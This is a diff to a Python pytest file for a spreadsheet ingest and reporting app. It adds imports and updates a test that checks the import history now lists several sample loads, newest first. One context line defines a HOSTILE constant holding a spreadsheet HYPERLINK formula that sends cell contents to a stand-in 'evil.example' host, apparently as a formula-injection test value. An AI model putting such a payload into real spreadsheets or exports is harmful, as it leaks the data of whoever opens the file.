@@ -17,6 +17,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from data_access import sample_history
 from data_access.ingest.pipeline import SheetResult, prepare
 from data_access.ingest.problems import ERROR, WARNING, Problem
 from data_access.ingest.reader import read_file
@@ -33,6 +34,7 @@ from steerco.views.data import (
     problems_frame,
     sheets_frame,
 )
+from tests.conftest import TEST_AS_OF
 
 HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
 
@@ -630,10 +632,12 @@ def test_rows_export_keeps_every_row_in_dataset_order_with_types():
 def test_history_reads_the_sample_load_which_cannot_be_rolled_back(conn):
     found = views.history(conn)
     assert not found.is_empty
-    assert found.table["Outcome"].tolist() == ["Sample loaded"]
-    record = found.record(0)
-    assert record["import_id"] == 1 and record["source"] == "test sample"
-    assert views.import_line(record).startswith("**test sample** · ")
+    loads = sample_history.CYCLES + 1  # the sample's past cycles, then the anchor day's load
+    assert found.table["Outcome"].tolist() == ["Sample loaded"] * loads
+    record = found.record(0)  # the newest first
+    load = f"test sample: load of {TEST_AS_OF:%Y-%m-%d}"
+    assert record["import_id"] == loads and record["source"] == load
+    assert views.import_line(record).startswith(f"**{load}** · ")
     assert not views.can_roll_back(record)
 
 
